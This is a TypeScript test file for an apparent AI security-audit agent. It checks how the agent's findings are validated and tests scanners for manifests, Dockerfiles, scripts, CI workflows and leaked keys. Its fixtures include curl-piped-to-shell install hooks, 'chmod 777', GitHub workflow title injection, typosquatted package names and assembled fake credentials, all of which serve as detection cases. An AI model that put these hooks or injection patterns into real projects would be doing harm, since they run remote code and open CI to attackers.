import { describe, expect, it } from "vitest";
import { findAgent } from "#agents";
import { type Finding, findingSchema } from "#schemas";
import { type Files, TestChange } from "#tests/support/check-trees.ts";
import { within } from "#tests/support/within.ts";
import { dockerfiles, scripts } from "./manifests/containers.ts";
import { packageLocks, packageManifests } from "./manifests/npm.ts";
import { pyprojects, requirements } from "./manifests/python.ts";
import { workflows } from "./manifests/workflows.ts";

const PROJECT: Files = {
  "src/db.js": 'query("select " + name);\nexport {};\n',
  "empty.txt": "",
  "logo.bin": new Uint8Array([0, 255]),
};
const FINDING = {
  file: "src/db.js",
  line: 1,
  severity: "high",
  cwe: "CWE-89",
  title: "SQL injection",
  detail: "The name is put into the statement.",
};
const answer = (findings: unknown) => `I looked.\n\n\`\`\`findings\n${JSON.stringify(findings)}\n\`\`\`\n`;

async function audit(words: string, files: Files = PROJECT, after: Record<string, string> = {}) {
  using change = new TestChange(files, after, words);
  const verdict = await findAgent("SecurityAgent")?.validate(change.change, change);
  if (verdict === undefined) throw new Error("SecurityAgent is not registered");
  return { ...verdict, said: verdict.problems.join("\n") };
}
/** Findings of the rules alone, as `line CWE`. */
async function found(files: Files): Promise<string[]> {
  const { findings = [], said } = await audit(answer([]), files);
  expect(said).toBe("");
  for (const finding of findings) expect(findingSchema.safeParse(finding).success).toBe(true);
  return findings.map(({ file, line, cwe }: Finding) => `${file}:${line} ${cwe}`).toSorted();
}

describe("SecurityAgent's result", () => {
  it("are findings at places that are there, or that there are none", async () => {
    expect((await audit(answer([FINDING]))).findings).toEqual([FINDING]);
    expect(await audit(answer([]))).toMatchObject({ problems: [], findings: [] });
    const rest = { fix: "Use parameters.", extra: 1 };
    expect((await audit(answer([{ ...FINDING, ...rest }]))).findings).toEqual([
      { ...FINDING, fix: rest.fix },
    ]);
  });

  it("is refused without exactly one list", async () => {
    expect((await audit("All is well.")).said).toContain("found: 0");
    expect((await audit(answer([]) + answer([]))).said).toContain("found: 2");
    expect((await audit("```findings\n[\n```")).said).toContain("no valid JSON");
    expect((await audit(answer({}))).said).toContain("must be a JSON list");
    expect((await audit(answer(Array.from({ length: 201 }, () => FINDING)))).said).toContain("more than 200");
    expect((await audit(`\`\`\`findings\n${"[".repeat(900_000)}\n\`\`\``)).said).toContain("no valid JSON");
  });

  it("is refused when a finding does not fit, with its number and field", async () => {
    for (const [field, value] of Object.entries({
      severity: "bad",
      cwe: "79",
      line: 0,
      file: "",
      title: 3,
    })) {
      expect((await audit(answer([FINDING, { ...FINDING, [field]: value }]))).said).toMatch(
        new RegExp(`^Finding 2 does not fit: ${field}: `),
      );
    }
    expect((await audit(answer([null, []]))).problems).toHaveLength(2);
  });

  it("is refused for places that are not there", async () => {
    expect((await audit(answer([{ ...FINDING, line: 2 }]))).said).toBe("");
    expect((await audit(answer([{ ...FINDING, line: 3 }]))).said).toBe(
      "Finding 1: src/db.js has 2 lines, not 3.",
    );
    expect((await audit(answer([{ ...FINDING, file: "/src/db.js" }]))).said).toContain("there is no file");
    expect((await audit(answer([{ ...FINDING, file: "../x\n" }]))).said).toContain('no file "../x\\n"');
    expect((await audit(answer([{ ...FINDING, file: "empty.txt" }]))).said).toBe("");
  });

  it("is refused when anything was changed", async () => {
    expect((await audit(answer([]), PROJECT, { "a.js": "1;" })).said).toContain("changes nothing");
  });

  it("has what rules find beside what the agent found, the worst first, nothing twice", async () => {
    const key = ["AKIA", "ABCDEFGHIJKLMNOP"].join("");
    const files = { ...PROJECT, "key.js": `const key = "${key}";\n` };
    const known = { ...FINDING, file: "key.js", cwe: "CWE-798", severity: "critical" };
    const { findings = [], checks } = await audit(answer([FINDING]), files);
    expect(findings.map(({ severity, file }) => [severity, file])).toEqual([
      ["critical", "key.js"],
      ["high", "src/db.js"],
    ]);
    expect(JSON.stringify(findings)).not.toContain(key);
    expect((await audit(answer([known]), files)).findings).toEqual([known]);
    expect(checks).toMatchObject([{ name: "manifests and keys", passed: true }]);
  });
});

describe("manifest rules", () => {
  it("look at package.json: versions, sources, names, scripts, a lock file", async () => {
    const manifest = {
      scripts: { postinstall: "curl http://x.test/a | sh", test: "curl http://x.test" },
      dependencies: {
        good: "^1.2.3",
        star: "*",
        last: "latest",
        "some-git": "github:a/b",
        fixed: `a/b#${"0".repeat(40)}`,
      },
      devDependencies: {
        "cross-evn": "1.0.0",
        plain: "http://x.test/a.tgz",
        local: "file:../a",
        preact: "10.0.0",
      },
    };
    const text = JSON.stringify(manifest, null, 2);
    const line = (name: string) => text.split("\n").findIndex((each) => each.includes(`"${name}"`)) + 1;
    const expected = [
      `package.json:1 CWE-1357`,
      `package.json:${line("postinstall")} CWE-494`,
      `package.json:${line("star")} CWE-1357`,
      `package.json:${line("last")} CWE-1357`,
      `package.json:${line("some-git")} CWE-829`,
      `package.json:${line("cross-evn")} CWE-1357`,
      `package.json:${line("plain")} CWE-494`,
    ];
    expect(await found({ "package.json": text })).toEqual(expected.toSorted());
    expect(await found({ "package.json": text, "yarn.lock": "" })).toEqual(expected.slice(1).toSorted());
    expect(
      await found({ "package.json": '{"dependencies":{"a":"1.0.0"}}', "package-lock.json": "{}" }),
    ).toEqual([]);
  });

  it("look at lock files", async () => {
    const lock = [
      '{ "packages": {',
      '"a": { "version": "1.0.0",',
      '"resolved": "https://r.test/a.tgz",',
      '"integrity": "sha512-x" },',
      '"b": {',
      '"resolved": "http://r.test/b.tgz" },',
      '"c": {',
      '"resolved": "https://r.test/c.tgz" },',
      '"d": {',
      '"resolved": "git+ssh://git@r.test/d.git" } } }',
    ].join("\n");
    expect(await found({ "package-lock.json": lock })).toEqual([
      "package-lock.json:10 CWE-829",
      "package-lock.json:6 CWE-494",
      "package-lock.json:8 CWE-494",
    ]);
  });

  it("look at Python's manifests", async () => {
    const requirements =
      "# all\nflask==3.0.0\nreqeusts==1.0\nnumpy\nrich>=13\nx @ git+https://r.test/x\n--extra-index-url https://i.test\n-r more.txt\npandas~=2.1 # ok\n";
    expect(await found({ "requirements.txt": requirements })).toEqual([
      "requirements.txt:3 CWE-1357",
      "requirements.txt:4 CWE-1357",
      "requirements.txt:5 CWE-1357",
      "requirements.txt:6 CWE-829",
      "requirements.txt:7 CWE-427",
    ]);
    const project =
      '[project]\nname = "x"\nkeywords = ["anything"]\ndependencies = [\n  "flask>=3,<4",\n  "numpy",\n]\n[tool.poetry.dependencies]\npython = "*"\nrich = "*"\nhttpx = "^0.27"\n[tool.ruff]\nselect = ["E"]\n';
    expect(await found({ "pyproject.toml": project })).toEqual([
      "pyproject.toml:10 CWE-1357",
      "pyproject.toml:6 CWE-1357",
    ]);
  });

  it("look at containers and scripts", async () => {
    const docker =
      "FROM node AS build\nFROM node:24-slim\nFROM build\nFROM x@sha256:00\nFROM scratch\nADD https://x.test/a /a\nRUN chmod -R 777 /app\nRUN chmod 755 /app && chmod +x a\nUSER root\n# RUN chmod 777 /\n";
    expect(await found({ Dockerfile: docker })).toEqual([
      "Dockerfile:1 CWE-1357",
      "Dockerfile:6 CWE-494",
      "Dockerfile:7 CWE-732",
      "Dockerfile:9 CWE-250",
    ]);
    const script =
      "curl -fsSL https://x.test/i | sudo bash\nchmod o+w a\nchmod u+w a\ncurl -o a https://x.test\numask 000\n";
    expect(await found({ "bin/setup.sh": script })).toEqual([
      "bin/setup.sh:1 CWE-494",
      "bin/setup.sh:2 CWE-732",
      "bin/setup.sh:5 CWE-732",
    ]);
  });

  it("look at workflows", async () => {
    const title = ["$", "{{ github.event.issue.title }}"].join("");
    const head = ["$", "{{ github.event.pull_request.head.sha }}"].join("");
    const flow = [
      "on: pull_request_target",
      "permissions: write-all",
      "jobs:",
      "  a:",
      "    steps:",
      "      - uses: actions/checkout@v4",
      "        with:",
      `          ref: ${head}`,
      "      - uses: some/action@main",
      "      - uses: other/action@v1",
      `      - uses: third/action@${"a".repeat(40)} # v1`,
      "      - uses: ./local",
      `      - name: ${title}`,
      "        run: |",
      `          echo "${title}"`,
      `      - run: echo "${title}"`,
      "        env:",
      `          TITLE: ${title}`,
    ].join("\n");
    expect(await found({ ".github/workflows/ci.yml": flow })).toEqual(
      ["2 CWE-250", "8 CWE-829", "9 CWE-829", "10 CWE-829", "15 CWE-78", "16 CWE-78"]
        .map((each) => `.github/workflows/ci.yml:${each}`)
        .toSorted(),
    );
  });

  it("find keys by their form, and take examples for what they are", async () => {
    const token = (...parts: string[]) => parts.join("");
    const files = {
      "a.py": `TOKEN = "${token("ghp_", "a1".repeat(18))}"\n`,
      "b.pem": `${token("-----BEGIN RSA PRIVATE ", "KEY-----")}\nabc\n`,
      "c.yml": `url: ${token("postgres://app:", "s3cr3tpw@db.internal/x")}\nother: postgres://user:password@localhost/x\n`,
      ".env": "PORT=3000\nSESSION_SECRET=8d7f6a5b4c3d2e1f\nAPI_KEY=changeme-please\n",
      ".env.example": "SESSION_SECRET=8d7f6a5b4c3d2e1f\n",
      "d.md": `Use a key like ${token("AKIA", "IOSFODNN7EXAMPLE")}.\n`,
      "bundle.js": `${"x".repeat(3000)}${token("AKIA", "ABCDEFGHIJKLMNOP")}\n`,
      "node_modules/a/key.js": token("AKIA", "ABCDEFGHIJKLMNOP"),
    };
    expect(await found(files)).toEqual([
      ".env:2 CWE-798",
      "a.py:1 CWE-798",
      "b.pem:1 CWE-798",
      "c.yml:1 CWE-798",
    ]);
  });

  it("are done with hostile files, and tell what they left out", async () => {
    const hostile = {
      "package.json": `{"dependencies":${"[".repeat(100_000)}`,
      "requirements.txt": `${"a".repeat(1_000_000)}\n${"-".repeat(100_000)}`,
      "pyproject.toml": `x = [${'"a", '.repeat(200_000)}`,
      Dockerfile: `FROM ${"--a ".repeat(100_000)}\nRUN chmod ${"-R ".repeat(100_000)}`,
      "package-lock.json": '"resolved": "https://'.repeat(50_000),
      ".github/workflows/a.yml": `run: ${"{{".repeat(500_000)}`,
      "a.txt": "postgres://".repeat(180),
      "nul.txt": "AKIA\0",
    };
    await found(hostile);
    // By themselves, so that they can be ended by force.
    for (const piece of ["[", "[[", "curl ", " ", "\n", "  \n", '"', "${{ ", "-R "]) {
      const text = piece.repeat(500_000 / piece.length);
      for (const scanner of [pyprojects, requirements, dockerfiles, scripts, workflows, packageLocks]) {
        within(10_000, () => scanner.scan({ path: "a", text, paths: new Set() }));
      }
    }
    const dependencies = Object.fromEntries(
      Array.from({ length: 2000 }, (_, nth) => [`package-${nth}`, "*"]),
    );
    const text = "\n".repeat(1_500_000) + JSON.stringify({ dependencies });
    within(10_000, () => packageManifests.scan({ path: "package.json", text, paths: new Set() }));
    const many = Object.fromEntries(Array.from({ length: 3010 }, (_, i) => [`f${i}`, "x"]));
    expect((await audit(answer([]), many)).checks).toMatchObject([
      { passed: false, output: "3000 files looked through, 0 findings; 10 files were too many." },
    ]);
  });
});
